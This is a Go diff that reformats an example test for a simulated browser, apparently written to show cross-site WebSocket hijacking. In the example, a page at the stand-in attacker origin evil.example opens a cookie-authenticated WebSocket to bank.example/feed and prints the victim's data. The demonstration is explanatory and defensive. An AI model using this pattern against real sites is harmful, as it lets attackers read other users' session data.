@@ -175,7 +175,8 @@ func TestWebSocketEnds(t *testing.T) {
 
 // login sets the cookie of a session; feed tells who is logged in what is theirs.
 func login(w http.ResponseWriter, _ *http.Request) {
-	http.SetCookie(w, &http.Cookie{Name: "user", Value: "alice", Path: "/", Secure: true, SameSite: http.SameSiteNoneMode})
+	user := &http.Cookie{Name: "user", Value: "alice", Path: "/", Secure: true, SameSite: http.SameSiteNoneMode}
+	http.SetCookie(w, user)
 }
 
 func feed(ws *websocket.Conn) {
@@ -191,7 +192,8 @@ func hijack(server http.Handler) {
 	req, _ := http.NewRequest("POST", "https://bank.example/login", nil)
 	browser.Page(origin.MustParse("https://bank.example")).Fetch(req)
 
-	ws, err := browser.Page(origin.MustParse("https://evil.example")).WebSocket(context.Background(), "wss://bank.example/feed")
+	evil := browser.Page(origin.MustParse("https://evil.example"))
+	ws, err := evil.WebSocket(context.Background(), "wss://bank.example/feed")
 	if err != nil {
 		fmt.Println(err)
 		return
@@ -202,8 +204,8 @@ func hijack(server http.Handler) {
 	fmt.Printf("evil.example reads: %s\n", frame[2:n])
 }
 
-// A server of WebSockets that looks at cookies alone falls to any page that its users visit: no preflight and no CORS check stands
-// before it.
+// A server of WebSockets that looks at cookies alone falls to any page that its users visit: no preflight and no CORS
+// check stands before it.
 func ExamplePage_WebSocket_falls() {
 	server := http.NewServeMux()
 	server.HandleFunc("/login", login)
